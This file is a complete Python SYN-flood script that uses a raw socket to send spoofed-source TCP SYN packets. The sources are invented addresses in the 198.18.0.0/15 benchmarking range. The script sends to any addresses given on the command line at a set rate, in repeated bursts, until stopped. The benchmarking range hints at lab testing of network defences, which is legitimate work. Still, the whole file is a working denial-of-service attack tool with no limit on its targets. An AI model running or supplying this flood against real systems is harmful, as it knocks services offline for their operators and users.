# SPDX-License-Identifier: BSD-3-Clause
"""A flood of SYNs from invented clients (198.18.0.0/15, RFC 2544), in bursts, until it is ended.

usage: syn_flood.py SEED SYNS_PER_SECOND PORT ADDRESS...
"""

import random
import socket
import struct
import sys
import time

from syn_packet import syn

BURST_SECONDS = 3
PAUSE_SECONDS = 3
STEP_SECONDS = 0.01
SOURCES = 0xC6120000
SOURCE_BITS = 17


def invent(dice, target, port):
    source = struct.pack("!I", SOURCES + dice.getrandbits(SOURCE_BITS))
    return syn(source, target, dice.randrange(1024, 65536), port, dice.getrandbits(32))


def burst(sender, dice, rate, port, addresses):
    """At the rate on average, in small steps."""
    begun = time.monotonic()
    sent = 0
    while (passed := time.monotonic() - begun) < BURST_SECONDS:
        while sent < passed * rate:
            address = addresses[sent % len(addresses)]
            sender.sendto(invent(dice, socket.inet_aton(address), port), (address, 0))
            sent += 1
        time.sleep(STEP_SECONDS)


def main():
    seed, rate, port, *addresses = sys.argv[1:]
    dice = random.Random(int(seed))
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    while True:
        burst(sender, dice, int(rate), int(port), addresses)
        time.sleep(PAUSE_SECONDS)


main()
